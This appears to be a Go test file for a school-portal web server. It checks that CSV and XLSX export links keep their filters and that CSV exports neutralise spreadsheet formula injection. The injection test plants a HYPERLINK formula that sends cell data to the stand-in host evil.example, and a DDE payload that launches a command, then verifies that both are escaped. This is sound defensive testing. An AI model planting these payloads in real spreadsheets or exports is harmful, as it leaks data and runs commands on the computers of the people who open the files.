package web_test

import (
	"encoding/csv"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	stdhtml "html"

	ps "github.com/portalescuole/portalescuole"
	"github.com/portalescuole/portalescuole/store"
	"github.com/portalescuole/portalescuole/store/storetest"
)

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v", err)
	}
	return rows
}

// exportLink returns the href of the element with the given id.
func exportLink(t *testing.T, body, id string) string {
	t.Helper()
	m := regexp.MustCompile(`href="([^"]*)"[^>]*id="` + id + `"`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no link %s", id)
	}
	return stdhtml.UnescapeString(m[1])
}

// The export links of the compliance page keep the page's filters.
func TestServer_AdempimentiExportFilters(t *testing.T) {
	for _, d := range storetest.Dialects() {
		t.Run(string(d), func(t *testing.T) {
			e := newEnv(t, d)
			user, pw := demoAccount(ps.RoleATS)
			c := e.loginAs(user, pw)
			all, err := e.db.Adempimenti(ctx, 2026, store.PlessoFilter{InScope: true, Attivi: true})
			if err != nil {
				t.Fatal(err)
			}
			want := map[string]bool{}
			for _, a := range all {
				if a.Plesso.Provincia == "MN" && a.Plesso.Grado == ps.Secondaria2 && !a.Fatto() {
					want[a.Plesso.Codice] = true
				}
			}
			if len(want) == 0 || len(want) == len(all) {
				t.Fatalf("demo not plausible: %d of %d", len(want), len(all))
			}
			page := c.get("/ats/adempimenti?provincia=MN&grado=secondaria2&stato=manca")
			link := exportLink(t, page.Body, "export-csv")
			if !strings.Contains(link, "provincia=MN") || !strings.Contains(link, "&grado=secondaria2") {
				t.Fatalf("CSV link %q", link)
			}
			rows := readCSV(t, c.get(link).Body)
			if len(rows)-1 != len(want) {
				t.Fatalf("CSV from %q has %d rows, want %d", link, len(rows)-1, len(want))
			}
			for _, row := range rows[1:] {
				if !want[row[1]] {
					t.Fatalf("row outside the filter: %v", row)
				}
			}
			if x := exportLink(t, page.Body, "export-xlsx"); x != strings.Replace(link, ".csv", ".xlsx", 1) {
				t.Fatalf("XLSX link %q, CSV link %q", x, link)
			}
		})
	}
}

const formula = `=HYPERLINK("http://evil.example/?d="&B2,"Apri")`

// No CSV cell starts a formula; numbers, negative ones too, stay numbers.
func TestServer_CSVFormulaInjection(t *testing.T) {
	e := newEnv(t, store.SQLite)
	if _, err := e.db.SQL().ExecContext(ctx, `UPDATE plessi SET nome = $1 WHERE codice = $2`, formula, ownPlesso); err != nil {
		t.Fatal(err)
	}
	sig, err := e.db.Segnali(ctx, store.SegnaleFilter{Limit: 1})
	if err != nil || len(sig) == 0 {
		t.Fatalf("no demo alert: %v", err)
	}
	if err := e.db.UpdateSegnale(ctx, ps.Actor{Username: "test"}, sig[0].ID, "", "@SUM(1+1)*cmd|' /C calc'!A0", "", ""); err != nil {
		t.Fatal(err)
	}
	user, pw := demoAccount(ps.RoleATS)
	c := e.loginAs(user, pw)
	check := func(t *testing.T, path string) {
		rows := readCSV(t, c.get(path).Body)
		neutral := 0
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell == "" {
					continue
				}
				switch cell[0] {
				case '=', '+', '-', '@', '\t', '\r':
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Fatalf("%s: formula cell %q", path, cell)
					}
				case '\'':
					neutral++
				}
			}
		}
		if neutral == 0 {
			t.Fatalf("%s: the planted cells are missing", path)
		}
	}
	t.Run("adempimenti", func(t *testing.T) {
		check(t, "/ats/adempimenti.csv?anno=2026/27")
		rows := readCSV(t, c.get("/ats/adempimenti.csv?anno=2026/27&q="+ownPlesso).Body)
		if len(rows) != 2 || rows[1][2] != "'"+formula {
			t.Fatalf("rows %q", rows)
		}
	})
	t.Run("allerte", func(t *testing.T) {
		check(t, "/ats/export/allerte.csv")
		rows := readCSV(t, c.get("/ats/export/allerte.csv").Body)
		col := colonna(t, rows[0], "assegnato")
		found := false
		for _, row := range rows[1:] {
			found = found || row[col] == "'@SUM(1+1)*cmd|' /C calc'!A0"
		}
		if !found {
			t.Fatal("the assignee is not neutralised")
		}
	})
}

// The alerts list's export links keep its filters.
func TestServer_AllerteExportFilters(t *testing.T) {
	e := newEnv(t, store.SQLite)
	all, err := e.db.Segnali(ctx, store.SegnaleFilter{Limit: 5000})
	if err != nil || len(all) < 2 {
		t.Fatalf("demo alerts: %d %v", len(all), err)
	}
	if err := e.db.UpdateSegnale(ctx, ps.Actor{Username: "test"}, all[0].ID, ps.StatoValutazione, "", "", ""); err != nil {
		t.Fatal(err)
	}
	user, pw := demoAccount(ps.RoleATS)
	c := e.loginAs(user, pw)
	page := c.get("/ats/allerte?stato=" + url.QueryEscape(ps.StatoValutazione))
	link := exportLink(t, page.Body, "export-allerte-csv")
	rows := readCSV(t, c.get(link).Body)
	if len(rows) < 2 {
		t.Fatalf("CSV from %q has no rows", link)
	}
	col := colonna(t, rows[0], "stato")
	for _, row := range rows[1:] {
		if row[col] != ps.StatoValutazione {
			t.Fatalf("CSV from %q: row outside the filter %v", link, row)
		}
	}
	if len(rows)-1 == len(all) {
		t.Fatal("the filter changed nothing: the test cannot tell")
	}
}

// colonna finds a column of a CSV by its header.
func colonna(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if strings.TrimPrefix(h, "\ufeff") == name {
			return i
		}
	}
	t.Fatalf("no column %q in %v", name, header)
	return -1
}
